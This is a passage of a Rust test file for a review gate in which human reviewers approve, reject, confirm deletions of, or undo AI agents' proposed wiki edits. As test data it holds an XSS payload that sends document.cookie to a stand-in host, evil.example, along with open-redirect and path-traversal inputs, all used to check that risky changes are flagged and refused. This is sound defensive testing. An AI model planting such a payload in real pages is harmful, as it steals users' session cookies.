//! Nothing is decided by accident on the review page: focus, keys, deletions, what came of it.

use crate::prelude::*;
use crate::review::{Browser, Desk, PAGES, Page, reviewer};

/// A rejection's reason.
const NO: &[(&str, &str)] = &[("reason", "No.")];

/// A desk whose agent may do everything.
async fn desk(pages: &[(&str, &str)]) -> Desk {
    let wiki = wiki_of(pages).await;
    let key = wiki.keys().admin.clone();
    Desk::with_key(wiki, key).await
}

/// Pages `docs/a`, `docs/b` and `docs/c`, and their ids.
async fn three_old_pages() -> (Desk, [i64; 3]) {
    let paths = ["docs/a", "docs/b", "docs/c"];
    let desk = desk(&paths.map(|path| (path, "old\n"))).await;
    let ids = paths.map(|path| id_of(&desk.wiki, path));
    (desk, ids)
}

fn is_there(wiki: &DemoWiki, path: &str) -> bool {
    wiki.with_store(|store| store.page_at("en", path).is_some())
}

/// The tags of a page that begin with `<NAME` and hold this text.
fn tags<'a>(page: &'a Page, name: &str, holds: &str) -> Vec<&'a str> {
    let begin = format!("<{name}");
    let all = page.text.split_inclusive('>');
    let own = all.filter_map(|text| text.rfind('<').and_then(|at| text.get(at..)));
    own.filter(|tag| tag.starts_with(&begin) && tag.contains(holds))
        .collect()
}

/// All tags that have the focus when their page is opened.
fn focused(page: &Page) -> Vec<&str> {
    let all = page.text.split('<');
    let all = all.map(|rest| rest.split('>').next().unwrap());
    all.filter(|tag| tag.contains(" autofocus")).collect()
}

async fn command(desk: &Desk, arguments: &[&str]) -> Ended {
    let command = Command::operator(&desk.wiki, &desk.agent, arguments);
    command.end().await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rejection_without_a_reason_keeps_the_focus_in_the_reason_and_nothing_has_a_key() {
    let desk = Desk::of(PAGES).await;
    let id = desk.edit("docs/a", "old", "new").await;
    let browser = desk.signed_in().await;
    let set = format!("/review/sets/{id}");
    let shown = browser.open(&set).await;
    assert!(focused(&shown).is_empty(), "{}", shown.text);
    // Enter in the reason sends the form of the rejection alone, without scripts as well.
    let [reason] = tags(&shown, "input", "name=\"reason\"")[..] else {
        panic!("{}", shown.text);
    };
    says(&reason, "form=\"rejecting\"");
    says(&reason, " required");
    let [reject] = tags(&shown, "button", "id=\"reject\"")[..] else {
        panic!("{}", shown.text);
    };
    assert!(reject.contains("form=\"rejecting\""), "{reject}");
    let [apply] = tags(&shown, "button", "id=\"apply\"")[..] else {
        panic!("{}", shown.text);
    };
    lacks(&apply, "rejecting");
    lacks(&apply, "autofocus");

    for given in ["", " \t "] {
        let again = browser.decide(&id, "reject", &[("reason", given)]).await;
        assert_eq!(again.status, StatusCode::UNPROCESSABLE_ENTITY);
        let [focused] = focused(&again)[..] else {
            panic!("{}", again.text);
        };
        assert!(focused.contains("name=\"reason\""), "{focused}");
        assert!(focused.contains("aria-invalid=\"true\""), "{focused}");
    }
    // A reason that is too long is there to be shortened.
    let long = "x".repeat(501);
    let again = browser.decide(&id, "reject", &[("reason", &long)]).await;
    assert!(again.text.contains(&format!("value=\"{long}\"")));
    let script = browser.open("/review/assets/review.js").await.text;
    for page in [&shown, &again, &browser.open("/review").await] {
        assert!(!page.text.contains("accesskey"), "{}", page.text);
    }
    assert!(!script.contains("a: () =>"), "{script}");
    assert_eq!(mutations(&desk.wiki).len(), 0);
    let done = browser
        .decide(&id, "reject", &[("reason", "We still need it")])
        .await;
    let decided = browser.open(&done.leads_to()).await;
    assert!(decided.text.contains("Rejected"), "{}", decided.text);
    let [focused] = focused(&decided)[..] else {
        panic!("{}", decided.text);
    };
    assert!(focused.starts_with("a "), "{focused}");
    desk.program.kill();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn enter_in_a_field_or_on_a_tick_decides_nothing() {
    let (desk, ids) = Desk::of_old_pages(2).await;
    let id = desk.propose_new_for_old(&ids).await;
    let browser = desk.signed_in().await;
    let shown = browser.open(&format!("/review/sets/{id}")).await;
    assert!(!tags(&shown, "input", "name=\"leave_out\"").is_empty());
    // A browser presses the first button of the form that a field belongs to. For a tick it passes over a disabled one.
    let (_, form) = shown.text.split_once("<form id=\"decide\"").unwrap();
    let first = form.split("<button").nth(1).unwrap();
    begins(
        &first,
        " type=\"submit\" name=\"turn\" value=\"?from=0\" hidden>",
    );
    desk.program.kill();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ticks_are_kept_on_every_other_view_of_a_set_without_scripts() {
    let (desk, ids) = Desk::of_old_pages(3).await;
    let id = desk.propose_new_for_old(&ids).await;
    let browser = desk.signed_in().await;
    let set = format!("/review/sets/{id}");
    let shown = browser.open(&set).await;
    let ticked = |page: &Page| {
        vec_of(
            tags(page, "input", "checked")
                .iter()
                .map(ToString::to_string),
        )
    };
    for (view, leads_to) in [
        (
            "?from=1#change-1",
            "?from=1&leave_out=0&leave_out=2#change-1",
        ),
        ("?view=two", "?view=two&leave_out=0&leave_out=2"),
        ("/new/1", "/new/1?leave_out=0&leave_out=2"),
    ] {
        assert!(
            shown.text.contains(&format!("value=\"{view}\"")) || view.starts_with("?from"),
            "{view}"
        );
        let form = [("leave_out", "0"), ("leave_out", "2"), ("turn", view)];
        let turned = browser.sends(&id, &shown, &form).await;
        turned.is(StatusCode::SEE_OTHER, view);
        assert_eq!(turned.leads_to(), format!("{set}{leads_to}"));
        let mut page = browser
            .open(turned.leads_to().split('#').next().unwrap())
            .await;
        if view.starts_with('/') {
            let back = format!("{set}?leave_out=0&amp;leave_out=2#change-1");
            says(&page.text, &format!("href=\"{back}\""));
            page = browser
                .open(&format!("{set}?leave_out=0&leave_out=2"))
                .await;
        }
        assert_eq!(ticked(&page).len(), 2, "{view}: {:?}", ticked(&page));
    }
    // What is no view of the set leads nowhere.
    for wrong in ["//evil.example", "?x=<", "/new/../../..", "/undo"] {
        let refused = browser.sends(&id, &shown, &[("turn", wrong)]).await;
        assert!(
            refused.status.is_client_error(),
            "{wrong}: {}",
            refused.status
        );
    }
    assert_eq!(mutations(&desk.wiki).len(), 0);
    desk.program.kill();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_deletion_is_asked_for_on_a_page_that_names_it_and_no_other_form_deletes() {
    let desk = desk(&[("docs/a", "A\n"), ("docs/b", "B\n"), ("docs/c", "C\n")]).await;
    let propose = async |path: &str| {
        let arguments = json!({ "id": id_of(&desk.wiki, path) });
        desk.propose(DELETE, arguments).await
    };
    let (id, other) = (propose("docs/a").await, propose("docs/b").await);
    let browser = desk.signed_in().await;
    let shown = browser.open(&format!("/review/sets/{id}")).await;
    let [apply] = tags(&shown, "button", "id=\"apply\"")[..] else {
        panic!("{}", shown.text);
    };
    says(&apply, "danger");
    lacks(&apply, "primary");
    assert!(shown.text.contains("lost_for_good"), "{}", shown.text);

    let asked = browser.decide(&id, "apply", &[]).await;
    assert_eq!(asked.status, StatusCode::OK, "{}", asked.text);
    for says in ["en/docs/a", "Page docs a", "keeps no history"] {
        assert!(asked.text.contains(says), "{says}: {}", asked.text);
    }
    let [focused] = focused(&asked)[..] else {
        panic!("{}", asked.text);
    };
    assert!(focused.starts_with("a "), "{focused}");
    let token = asked.hidden("deletes");
    let of_other = browser.decide(&other, "apply", &[]).await.hidden("deletes");
    let wrong = [
        String::new(),
        "yes".to_owned(),
        asked.hidden("form_token"),
        of_other,
    ];
    for wrong in wrong {
        let again = browser.decide(&id, "apply", &[("deletes", &wrong)]).await;
        assert_eq!(again.status, StatusCode::OK, "{}", again.text);
        says(&again.text, "Back: delete nothing");
    }
    assert!(is_there(&desk.wiki, "docs/a"));
    assert_eq!(mutations(&desk.wiki).len(), 0);
    let done = browser.decide(&id, "apply", &[("deletes", &token)]).await;
    assert_eq!(done.status, StatusCode::SEE_OTHER, "{}", done.text);
    assert!(!is_there(&desk.wiki, "docs/a"));
    assert!(is_there(&desk.wiki, "docs/b"));
    desk.program.kill();
}

/// A draft that deletes one page and changes two.
async fn mixed(desk: &Desk) -> String {
    for (tool, arguments) in json_rows(&json!([
        [DELETE, { "id": id_of(&desk.wiki, "docs/a"), "draft": "mixed" }],
        [UPDATE, { "id": id_of(&desk.wiki, "docs/b"), "title": "B!", "draft": "mixed" }],
        [UPDATE, { "id": id_of(&desk.wiki, "docs/c"), "addTags": ["seen"], "draft": "mixed" }],
    ])) {
        desk.agent.call(tool, arguments).await.unwrap();
    }
    desk.propose(SUBMIT, json!({ "draft": "mixed" })).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_set_that_deletes_is_confirmed_for_what_is_left_out_and_without_its_deletion_not() {
    let desk = desk(&[("docs/a", "A\n"), ("docs/b", "B\n"), ("docs/c", "C\n")]).await;
    let id = mixed(&desk).await;
    let browser = desk.signed_in().await;
    let asked = browser.decide(&id, "apply", &[]).await;
    assert!(asked.text.contains("2 other changes"), "{}", asked.text);
    let token = asked.hidden("deletes");
    // It was given for all of the set.
    let less = [("leave_out", "0"), ("deletes", &*token)];
    let again = browser.decide(&id, "apply", &less).await;
    says(&again.text, "Back: delete nothing");
    assert_eq!(mutations(&desk.wiki).len(), 0);
    // Nothing is asked where the deletion itself is left out.
    let page = browser.open(&format!("/review/sets/{id}")).await.text;
    let (_, changes) = page.split_once("<form id=\"decide\"").unwrap();
    let (before, _) = changes.split_once("en/docs/a</span>").unwrap();
    let number = before.rsplit_once("id=\"change-").unwrap().1;
    let number = number.split(['"', '-']).next().unwrap();
    let done = browser.decide(&id, "apply", &[("leave_out", number)]).await;
    assert_eq!(done.status, StatusCode::SEE_OTHER, "{}", done.text);
    assert!(is_there(&desk.wiki, "docs/a"));
    desk.program.kill();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_was_applied_is_named_and_taken_back_as_every_undo() {
    let (desk, ids) = three_old_pages().await;
    let id = desk.propose_new_for_old(&ids).await;
    let browser = desk.signed_in().await;
    let done = browser.decide(&id, "apply", &[]).await;
    let page = browser.open(&done.leads_to()).await;
    let (_, applied) = page.text.split_once("Applied ").unwrap();
    let applied = applied.split("</div>").next().unwrap();
    for path in ["en/docs/a", "en/docs/b", "en/docs/c"] {
        assert!(applied.contains(path), "{applied}");
    }
    assert!(applied.contains("/review/record/calls/"), "{applied}");
    assert!(!applied.contains("wikijs-gate undo"), "{applied}");
    let undo = format!("/review/sets/{id}/undo");
    assert!(applied.contains(&undo), "{applied}");
    // It stays on the page.
    let later = browser.open(&format!("/review/sets/{id}")).await;
    assert!(later.text.contains(&undo), "{}", later.text);
    assert!(focused(&later).is_empty(), "{}", later.text);

    let asked = browser.open(&undo).await;
    says(&asked.text, "Take back 3 changes?");
    assert!(asked.text.contains("docs/b"), "{}", asked.text);
    let sent = mutations(&desk.wiki).len();
    let form_token = asked.hidden("form_token");
    let shown = asked.hidden("shown");
    for token in ["", "yes", &form_token] {
        let form = [
            ("form_token", &*form_token),
            ("shown", &shown),
            ("undoes", token),
        ];
        let refused = browser.send(&undo, &form).await;
        assert_eq!(refused.status, StatusCode::CONFLICT, "{}", refused.text);
    }
    assert_eq!(mutations(&desk.wiki).len(), sent);
    let token = asked.hidden("undoes");
    let form = [
        ("form_token", &*form_token),
        ("shown", &shown),
        ("undoes", &token),
    ];
    let undone = browser.send(&undo, &form).await;
    assert_eq!(undone.status, StatusCode::SEE_OTHER, "{}", undone.text);
    let page = browser.settled(&undone.leads_to()).await;
    assert!(page.text.contains("Taken back: en/docs/"), "{}", page.text);
    assert!(!page.text.contains(&undo), "{}", page.text);
    for path in ["docs/a", "docs/b", "docs/c"] {
        assert_eq!(desk.content(path), "old\n");
    }
    command(&desk, &["audit", "verify"]).await.good();
    desk.program.kill();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_undo_that_does_something_else_by_now_is_shown_again() {
    let desk = Desk::of(&[("docs/a", "One.\n\nold\n\nTwo.\n")]).await;
    let id = desk.edit("docs/a", "old", "new").await;
    let browser = desk.signed_in().await;
    browser.decide(&id, "apply", &[]).await;
    let undo = format!("/review/sets/{id}/undo");
    let asked = browser.open(&undo).await;
    let page = id_of(&desk.wiki, "docs/a");
    desk.wiki.with_store(|store| {
        store.rewrite(page, |page| {
            page.content = page.content.replace("new", "newer");
        });
    });
    let sent = mutations(&desk.wiki).len();
    let refused = browser.takes_back(&undo, &asked).await;
    assert_eq!(refused.status, StatusCode::CONFLICT, "{}", refused.text);
    assert_eq!(mutations(&desk.wiki).len(), sent);
    assert!(desk.content("docs/a").contains("newer"));
    desk.program.kill();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_a_person_left_out_is_left_out_on_the_page_in_the_queue_and_on_record() {
    let pages: Vec<(String, String)> = (0..4)
        .map(|at| (format!("docs/p{at}"), "old\n".repeat(4)))
        .collect();
    let pages = vec_of(pages.iter().map(|(path, text)| (&**path, &**text)));
    let desk = desk(&pages).await;
    let ids = vec_of(pages.iter().map(|(path, _)| id_of(&desk.wiki, path)));
    let id = desk.propose_new_for_old(&ids).await;
    let browser = desk.signed_in().await;
    // Before the decision the counts are those of the whole set.
    let listed = browser.open("/review/record").await.text;
    assert!(listed.contains("+16") && listed.contains("−16"), "{listed}");
    says(&listed, "and 3 more pages");
    lacks(&listed, "and others");

    let out = [("leave_out", "1"), ("leave_out", "3")];
    let done = browser.decide(&id, "apply", &out).await;
    let page = browser.open(&done.leads_to()).await.text;
    let (_, applied) = page.split_once("Applied ").unwrap();
    let (kept, left) = applied.split_once("Left out: ").unwrap();
    says(&kept, "docs/p0");
    says(&kept, "docs/p2");
    lacks(&kept, "docs/p1");
    lacks(&kept, "docs/p3");
    let left = left.split("</p>").next().unwrap();
    says(&left, "docs/p1");
    says(&left, "docs/p3");
    let marks = page.matches("class=\"change omitted\"").count();
    assert_eq!(marks, 2, "{page}");

    let queue = browser.open("/review").await.text;
    let (_, decided) = queue.split_once("Decided lately").unwrap();
    assert!(decided.contains("and 1 more page<"), "{decided}");
    assert!(decided.contains("left out: "), "{decided}");
    assert!(decided.contains("docs/p1"), "{decided}");

    let listed = browser.open("/review/record").await.text;
    says(&listed, "+8");
    says(&listed, "−8");
    lacks(&listed, "+16");
    assert!(listed.contains("2 of 4 left out"), "{listed}");
    let (_, call) = listed.split_once("href=\"/review/record/calls/").unwrap();
    let call = call.split('"').next().unwrap();
    let story = browser.open(&format!("/review/record/calls/{call}")).await;
    let story = story.text;
    assert!(story.contains("Left out: 2 of 4"), "{story}");
    let (_, left) = story.split_once("Left out: 2 of 4").unwrap();
    let left = left.split("</p>").next().unwrap();
    says(&left, "docs/p1");
    says(&left, "docs/p3");
    let told = command(&desk, &["proposals", "list", "--all"]).await.stdout;
    assert!(told.contains("docs/p0 and 1 more, 2 left out"), "{told}");
    desk.program.kill();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_conflict_names_its_pages_with_a_link_to_each() {
    let (desk, ids) = three_old_pages().await;
    let id = desk.propose_new_for_old(&ids).await;
    desk.wiki.with_store(|store| {
        store.rewrite(ids[1], |page| "other\n".clone_into(&mut page.content));
    });
    let browser = desk.signed_in().await;
    let page = browser.open(&format!("/review/sets/{id}")).await.text;
    let (_, conflicts) = page.split_once("One change does not fit").unwrap();
    let conflicts = conflicts.split("</div>").next().unwrap();
    says(&conflicts, "href=\"#change-1\">en/docs/b<");
    assert!(conflicts.contains("/en/docs/b\""), "{conflicts}");
    assert!(!conflicts.contains("docs/a"), "{conflicts}");
    says(&page, "reject it, or leave this change out.");
    let refused = browser.decide(&id, "apply", &[]).await;
    says(&refused.text, "One change does not fit");
    let alone = desk.propose_new_for_old(&ids[2..]).await;
    desk.wiki.with_store(|store| {
        store.rewrite(ids[2], |page| "other\n".clone_into(&mut page.content));
    });
    let page = browser.open(&format!("/review/sets/{alone}")).await.text;
    says(&page, "The two touch each other: reject it.");
    desk.program.kill();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_risk_is_a_mark_in_the_queue_on_the_page_and_in_the_terminal() {
    let desk = desk(&[
        ("docs/a", "A\n"),
        ("docs/b", "B\n"),
        ("team/c", "C\n"),
        ("team/d", "D\n"),
    ])
    .await;
    let of = |path: &str| id_of(&desk.wiki, path);
    let script = "<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\">\n";
    let script = json!({ "id": of("docs/a"), "content": script });
    let script = desk.propose(UPDATE, script).await;
    let hides = desk
        .propose(UPDATE, json!({ "id": of("docs/b"), "isPublished": false }))
        .await;
    let tags_ = desk
        .propose(UPDATE, json!({ "id": of("team/c"), "tags": ["secret"] }))
        .await;
    let gone = desk.propose(DELETE, json!({ "id": of("team/d") })).await;
    let browser = desk.signed_in().await;
    let queue = browser.open("/review").await.text;
    assert!(queue.contains("4 sets wait"), "{queue}");
    let wiki = desk.wiki.address();
    assert!(queue.contains(wiki.split("://").nth(1).unwrap()), "{queue}");
    let marks = [
        (&script, "scripts"),
        (&hides, "unpublishes"),
        (&tags_, "tags"),
        (&gone, "deletes"),
    ];
    for (id, mark) in marks {
        let (_, row) = queue.split_once(&format!("/review/sets/{id}\"")).unwrap();
        let row = row.split("</li>").next().unwrap();
        assert!(
            row.contains(&format!("class=\"mark {mark}\"")),
            "{mark}: {row}"
        );
        let narrowed = browser.open(&format!("/review?risk={mark}")).await.text;
        let (list, _) = narrowed.split_once("<p class=\"keys").unwrap();
        assert!(list.contains("1 set waits"), "{mark}: {list}");
        assert!(list.contains(&**id), "{mark}: {list}");
        let page = browser.open(&format!("/review/sets/{id}")).await.text;
        assert!(
            page.contains(&format!("class=\"mark {mark}\"")),
            "{mark}: {page}"
        );
        let shown = command(&desk, &["proposals", "show", id]).await.stdout;
        assert!(shown.contains("risks: ") && shown.contains(mark), "{shown}");
        let shown = command(&desk, &["proposals", "show", id, "--json"])
            .await
            .stdout;
        let shown: Value = serde_json::from_str(&shown).unwrap();
        let risks = shown["risks"].as_array().unwrap();
        assert!(risks.contains(&json!(mark)), "{shown}");
        // Each warning of the page is a warning of the terminal.
        for warning in shown["warnings"].as_array().unwrap() {
            let code = warning["code"].as_str().unwrap();
            assert!(page.contains(&format!("{code}: ")), "{code}: {page}");
        }
    }
    let shown = command(&desk, &["proposals", "show", &script]).await.stdout;
    assert!(shown.contains("warning: script_added: "), "{shown}");
    let listed = command(&desk, &["proposals", "list"]).await.stdout;
    for (id, mark) in marks {
        let line = listed.lines().find(|line| line.contains(&**id)).unwrap();
        assert!(line.contains(mark), "{line}");
    }
    let listed = command(&desk, &["proposals", "list", "--json"])
        .await
        .stdout;
    let listed: Value = serde_json::from_str(&listed).unwrap();
    assert_eq!(listed["proposals"][0]["risks"][0], "scripts", "{listed}");
    for (query, count) in [
        ("path=team", "2 sets wait"),
        ("path=docs/a", "1 set waits"),
        ("words=docs", "2 sets wait"),
        ("client=", "4 sets wait"),
        ("client=nobody", "Nothing that waits is so"),
    ] {
        let found = browser.open(&format!("/review?{query}")).await.text;
        assert!(found.contains(count), "{query}: {found}");
    }
    for wrong in ["risk=eaten", "path=%2F..%2F"] {
        let found = browser.open(&format!("/review?{wrong}")).await.text;
        assert!(found.contains("role=\"alert\""), "{wrong}: {found}");
    }
    // A decided set says what it was warned of.
    let why = [("reason", "no scripts here")];
    browser.decide(&script, "reject", &why).await;
    let rejected = browser.open(&format!("/review/sets/{script}")).await.text;
    says(&rejected, "Warned of when it was made: ");
    says(&rejected, "script_added");
    let asked = call_ok(&desk.agent, GET_PROPOSAL, json!({ "id": script })).await;
    says(&asked["warnings"].to_string(), "script_added");
    desk.program.kill();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_mark_that_is_taken_out_of_a_proposals_file_is_still_shown_and_found_out() {
    let desk = desk(&[("docs/a", "A\n")]).await;
    let arguments = json!({ "id": id_of(&desk.wiki, "docs/a"), "scriptJs": "steal()" });
    let id = desk.propose(UPDATE, arguments).await;
    let file = proposal_file(desk.agent.dir.path(), &id);
    let mut changed: Value = serde_json::from_slice(&fs::read(&file).unwrap()).unwrap();
    assert_eq!(changed["warnings"], json!(["script_added"]));
    changed["warnings"] = json!([]);
    fs::write(&file, serde_json::to_vec(&changed).unwrap()).unwrap();
    let listed = command(&desk, &["proposals", "list"]).await.stdout;
    assert!(listed.contains("scripts"), "{listed}");
    let verified = command(&desk, &["audit", "verify"]).await;
    assert_ne!(verified.code, 0, "{}", verified.told);
    desk.program.kill();
}

/// A server with a reviewer of docs, and an agent beside it.
struct Prefixed {
    wiki: DemoWiki,
    agent: Served,
    hosted: Hosted,
    anna: Browser,
    names: Names,
}

impl Prefixed {
    async fn begin() -> Self {
        let wiki = wiki_of(&[
            ("docs/a", "The old word.\n"),
            ("docs/b", "Also an old word.\n"),
            ("team/c", "C\n"),
        ])
        .await;
        let setup = || Setup::admin(&wiki).dry().toolsets("pages,proposals");
        let agent = setup().serve().await;
        let names = Names::new();
        names.client("agent");
        let hosted = setup().in_dir_of(&agent).naming(&names).host().await;
        let arguments = [
            "anna",
            "--reviewer",
            "--prefixes",
            "docs",
            "--may-apply-in-dry-run",
        ];
        let anna = reviewer(&hosted, &names, &arguments).await;
        Self {
            wiki,
            agent,
            hosted,
            anna,
            names,
        }
    }

    async fn propose(&self, path: &str) -> String {
        let edit = json!({ "oldText": "old", "newText": "new" });
        let arguments = json!({ "id": id_of(&self.wiki, path), "edits": [edit] });
        let preview = self.agent.call(UPDATE, arguments).await.unwrap();
        preview["proposal"].as_str().unwrap().to_owned()
    }

    /// Moves a page, and writes what its reviewers must not see.
    fn move_out(&self, path: &str, to: &str) {
        let id = id_of(&self.wiki, path);
        self.wiki.with_store(|store| {
            store.rewrite(id, |page| {
                to.clone_into(&mut page.path);
                page.content = page.content.replace("word", "salary");
            });
        });
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_page_that_moved_out_of_a_reviewers_prefixes_is_not_shown_to_them() {
    let place = Prefixed::begin().await;
    let id = place.propose("docs/a").await;
    let applied = place.propose("docs/b").await;
    let status = place.anna.decide(&applied, "apply", &[]).await.status;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let record = place.anna.open("/review/record").await.text;
    let (_, call) = record.split_once("href=\"/review/record/calls/").unwrap();
    let call = call.split('"').next().unwrap().to_owned();
    let set = format!("/review/sets/{id}");
    let places = [
        set.clone(),
        format!("{set}?part=state"),
        format!("{set}?view=two"),
        format!("{set}?from=0"),
        format!("{set}/new/0"),
        format!("{set}/picture/0"),
        format!("/review/sets/{applied}"),
        format!("/review/sets/{applied}?part=state"),
        format!("/review/sets/{applied}/undo"),
        format!("/review/record/calls/{call}"),
    ];
    for path in [&places[0], &places[1], &places[4], &places[6], &places[9]] {
        assert_eq!(place.anna.open(path).await.status, StatusCode::OK, "{path}");
    }
    let shown = place.anna.open(&set).await;
    let (form_token, digest) = (shown.hidden("form_token"), shown.hidden("digest"));
    place.move_out("docs/a", "hr/a");
    place.move_out("docs/b", "hr/b");
    for path in &places {
        let hidden = place.anna.open(path).await;
        assert_eq!(
            hidden.status,
            StatusCode::NOT_FOUND,
            "{path}: {}",
            hidden.text
        );
        for word in ["salary", "docs/", "hr/", "old word"] {
            assert!(!hidden.text.contains(word), "{path}: {}", hidden.text);
        }
    }
    for decision in ["apply", "reject"] {
        let form = [
            ("form_token", &*form_token),
            ("digest", &digest),
            ("decision", decision),
            ("reason", "no"),
            ("merge", "yes"),
        ];
        let refused = place.anna.send(&set, &form).await;
        assert_eq!(refused.status, StatusCode::NOT_FOUND, "{}", refused.text);
    }
    let paths = "/review /review?part=list /review/record /review/record?path=docs";
    for path in paths.split(' ') {
        let listed = place.anna.open(path).await.text;
        for word in [&*id, &applied, "docs/a", "docs/b", "hr/"] {
            assert!(!listed.contains(word), "{path}: {listed}");
        }
    }
    // Back again, it is theirs.
    let page = place
        .wiki
        .with_store(|store| store.page_at("en", "hr/a").unwrap().id);
    place
        .wiki
        .with_store(|store| store.rewrite(page, |page| "docs/a".clone_into(&mut page.path)));
    assert_eq!(place.anna.open(&set).await.status, StatusCode::OK);
    drop(place.hosted);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_token_of_a_deletion_counts_for_no_other_session() {
    let place = Prefixed::begin().await;
    let page = json!({ "id": id_of(&place.wiki, "docs/b") });
    let preview = place.agent.call(DELETE, page).await.unwrap();
    let id = preview["proposal"].as_str().unwrap();
    let token = place.anna.decide(id, "apply", &[]).await.hidden("deletes");
    let ben = ["ben", "--reviewer", "--may-apply-in-dry-run"];
    let ben = reviewer(&place.hosted, &place.names, &ben).await;
    let again = ben.decide(id, "apply", &[("deletes", &token)]).await;
    says(&again.text, "Back: delete nothing");
    assert!(is_there(&place.wiki, "docs/b"));
    let done = place.anna.decide(id, "apply", &[("deletes", &token)]).await;
    assert_eq!(done.status, StatusCode::SEE_OTHER, "{}", done.text);
    assert!(!is_there(&place.wiki, "docs/b"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_reviewer_undoes_within_their_prefixes_and_not_in_a_dry_run() {
    let place = Prefixed::begin().await;
    let id = place.propose("docs/a").await;
    place.anna.decide(&id, "apply", &[]).await;
    let undo = format!("/review/sets/{id}/undo");
    let ben = reviewer(&place.hosted, &place.names, &["ben", "--reviewer"]).await;
    let shown = ben.open(&format!("/review/sets/{id}")).await;
    assert!(!shown.text.contains(&undo), "{}", shown.text);
    assert_eq!(ben.open(&undo).await.status, StatusCode::NOT_FOUND);
    let asked = place.anna.open(&undo).await;
    assert_eq!(asked.status, StatusCode::OK, "{}", asked.text);
    let undone = place.anna.takes_back(&undo, &asked).await;
    assert_eq!(undone.status, StatusCode::SEE_OTHER, "{}", undone.text);
    let page = id_of(&place.wiki, "docs/a");
    let content = place
        .wiki
        .with_store(|store| store.page(page).unwrap().content.clone());
    assert_eq!(content, "The old word.\n");
    let actor = place
        .agent
        .records()
        .iter()
        .rev()
        .find_map(|one| one.undoes.and(one.actor.clone()));
    assert!(actor.unwrap().as_str().starts_with("reviewer:anna/client:"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_set_that_takes_long_says_how_far_it_is_without_scripts() {
    let (desk, ids) = Desk::of_old_pages(6).await;
    let id = desk.propose_new_for_old(&ids).await;
    let browser = desk.signed_in().await;
    let shown = browser.open(&format!("/review/sets/{id}")).await;
    desk.wiki.set_write_delay(Duration::from_millis(800));
    let apply = [("decision", "apply")];
    // Its answer comes before the end, and leads to where that is told.
    let answer = browser.sends(&id, &shown, &apply).await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.text);
    let far = browser.open(&answer.leads_to()).await;
    assert!(far.text.contains("http-equiv=\"refresh\""), "{}", far.text);
    assert!(far.text.contains(" of 6 changes are made"), "{}", far.text);
    assert!(!far.text.contains("id=\"decide\""), "{}", far.text);
    // Who sends it twice is told the same, on a page that looks again, too.
    let twice = browser.sends(&id, &shown, &apply).await;
    twice.is(StatusCode::CONFLICT, "");
    says(&twice.text, "It is being decided already");
    says(&twice.text, "http-equiv=\"refresh\"");
    desk.wiki.set_write_delay(Duration::ZERO);
    let page = browser.settled(&answer.leads_to()).await;
    assert!(page.text.contains("Applied "), "{}", page.text);
    assert!(page.text.contains("en/docs/p5"), "{}", page.text);
    desk.program.kill();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn of_a_set_that_two_calls_made_both_are_named_to_take_it_back() {
    let (desk, ids) = Desk::of_old_pages(5).await;
    let id = desk.propose_new_for_old(&ids).await;
    let browser = desk.signed_in().await;
    let set = format!("/review/sets/{id}");
    let shown = browser.open(&set).await;
    desk.wiki.set_write_delay(Duration::from_millis(800));
    let _ = browser.sends(&id, &shown, &[("decision", "apply")]).await;
    let state = format!("{set}?part=state");
    while browser.open(&state).await.text.contains(" 0 of 5") {}
    let (_other, later) = desk.beside().await;
    desk.program.kill();
    desk.wiki.set_write_delay(Duration::ZERO);
    let command = async |arguments: &[&str]| {
        Command::operator(&desk.wiki, &desk.agent, arguments)
            .writing()
            .end()
            .await
            .good()
    };
    let applied = command(&["proposals", "apply", &id, "--yes"]).await;
    let back = "to take it back: wikijs-gate undo ";
    let calls = applied
        .stdout
        .lines()
        .filter_map(|line| line.strip_prefix(back));
    let calls = vec_of(calls.map(str::to_owned));
    assert_eq!(calls.len(), 2, "{}", applied.told);
    let shown = command(&["proposals", "show", &id]).await;
    says(&shown.stdout, "takes the last of it back, then ");
    says(&shown.stdout, &format!("undo {}` the rest", calls[1]));
    let told = call_ok(&desk.agent, GET_PROPOSAL, json!({ "id": id })).await;
    let earlier = format!("{} made some of it earlier", calls[1]);
    says(&told["warnings"].to_string(), &earlier);
    let page = later.open(&set).await;
    says(&page.text, "Some of it was made by an earlier call");
    assert!(page.text.contains(&calls[1]), "{}", page.text);
    for call in &calls {
        command(&["undo", call, "--yes"]).await;
    }
    let texts = desk
        .wiki
        .with_store(|store| vec_of(store.pages().map(|page| page.content.clone())));
    assert!(texts.iter().all(|text| text == "old\n"), "{texts:?}");
    let shown = command(&["proposals", "show", &id]).await;
    lacks(&shown.stdout, "takes the last of it back");
}

/// A proposed swap that a killed server began to apply: a page stands at its temporary place. Also gives
/// another server's page of it.
async fn swap_cut_short() -> ((DemoWiki, Served), (Program, Browser), String) {
    let desk = desk(&[("docs/a", "A\n"), ("docs/b", "B\n")]).await;
    for (from, to) in [("docs/a", "docs/b"), ("docs/b", "docs/a")] {
        let moved = json!({ "id": id_of(&desk.wiki, from), "path": to, "draft": "swap" });
        desk.agent.call(UPDATE, moved).await.unwrap();
    }
    let id = desk.propose(SUBMIT, json!({ "draft": "swap" })).await;
    let (browser, later) = (desk.signed_in().await, desk.beside().await);
    let shown = browser.open(&format!("/review/sets/{id}")).await;
    // The first move is made, and its answer does not come while the server lives.
    desk.wiki.set_tree_rebuild_time(Duration::from_mins(1));
